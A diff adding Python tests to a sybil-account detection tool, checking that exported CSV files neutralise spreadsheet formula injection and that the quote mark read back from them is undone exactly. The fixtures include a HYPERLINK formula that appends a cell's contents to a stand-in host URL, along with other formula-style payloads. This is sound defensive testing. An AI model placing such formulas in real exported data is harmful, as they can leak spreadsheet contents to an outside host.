@@ -612,3 +612,84 @@ def test_private_links_are_the_links_with_values_renamed(
     # the evidence text names the same keys and counts, with the pseudonyms
     first = private.iloc[0]
     assert first["evidence"].startswith(plain.iloc[0]["evidence"].split(" (")[0])
+
+
+#: account ids a spreadsheet would take for formulas, and two that only look marked
+_FORMULA_IDS = {
+    "a1": '=HYPERLINK("http://example.invalid/?"&A1,"open")',
+    "a2": "+a2",
+    "a3": "-a3",
+    "a4": "@SUM(1)",
+    "a5": "'=a5",
+    "a6": "'a6",
+}
+
+
+def test_output_csvs_hold_no_formula_and_read_back_exactly(tmp_path: Path) -> None:
+    # account ids, values and rejected rows are the sender's text: a cell that starts
+    # like a formula is written with a ' before it, and every reader takes it off
+    events = hand_events()
+    events["account_id"] = events["account_id"].replace(_FORMULA_IDS)
+    bad = events.iloc[:1].assign(account_id=None, prompt="=1+1")  # rejected: no account
+    path = tmp_path / "events.csv"
+    pd.concat([events, bad]).to_csv(path, index=False)
+    out = tmp_path / "run"
+    code, _, stderr = _invoke("detect", str(path), "--out", str(out))
+    assert code == 0, stderr
+
+    cells = {
+        name: [cell for row in csv.reader((out / name).open(newline="")) for cell in row]
+        for name in ("accounts.csv", "clusters.csv", "hubs.csv", "rejects.csv")
+    }
+    for name, found in cells.items():
+        assert not [c for c in found if c[:1] in ("=", "+", "@", "\t", "\r")], name
+    written = set(cells["accounts.csv"])
+    assert {"'" + _FORMULA_IDS[a] for a in ("a1", "a2", "a3", "a4")} <= written
+    assert {"''=a5", "'a6"} <= written  # a text that starts with '= gets one more '
+    assert "'=1+1" in cells["rejects.csv"]
+
+    result = sybilgraph.open(out)
+    ring = result.accounts.set_index("account_id").loc[list(_FORMULA_IDS.values())]
+    assert ring["flagged"].all() and ring["cluster_id"].nunique() == 1  # ring A, whole
+    assert "=1+1" in result.rejects.to_numpy().ravel().tolist()
+
+    # a verdict on such an account goes into the labels file marked, and comes back whole
+    result.label(_FORMULA_IDS["a1"], "sybil", note="=2+2")
+    labels = tmp_path / "labels.csv"
+    assert "'=HYPERLINK" in labels.read_text() and ",'=2+2," in labels.read_text()
+    again = sybilgraph.run(path, Config(labels=str(labels)), tmp_path / "again")
+    assert _FORMULA_IDS["a1"] in set(again.accounts["account_id"])
+    assert again.clusters.loc[again.clusters["rank"] == 1, "reasons"].str.contains("sybil").all()
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.lists(
+        st.one_of(
+            st.none(),
+            st.text(
+                st.sampled_from(["=", "+", "-", "@", "'", "\t", "\r", "a", " ", '"']), max_size=4
+            ),
+        ),
+        min_size=1,
+        max_size=8,
+    )
+)
+def test_marked_cells_read_back_as_written(texts: list[str | None]) -> None:
+    # whatever the text, the mark written for a spreadsheet is undone exactly on reading
+    import io
+
+    from sybilgraph.outputs import spreadsheet_safe, text_of_cells
+
+    frame = pd.DataFrame({"text": pd.Series(texts, dtype=object), "n": range(len(texts))})
+    safe = spreadsheet_safe(frame)
+    marked = [t for t in safe["text"] if isinstance(t, str)]
+    assert not [t for t in marked if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    handle = io.StringIO()
+    safe.to_csv(handle, index=False, lineterminator="\r\n")
+    handle.seek(0)
+    back = text_of_cells(pd.read_csv(handle, dtype={"text": str}, keep_default_na=False))
+    assert back["text"].tolist() == ["" if t is None else t for t in texts]
+    # and a text that starts otherwise is written as it is
+    plain = [t for t in texts if isinstance(t, str) and t[:1] not in "=+-@\t\r'"]
+    assert set(plain) <= set(safe["text"])
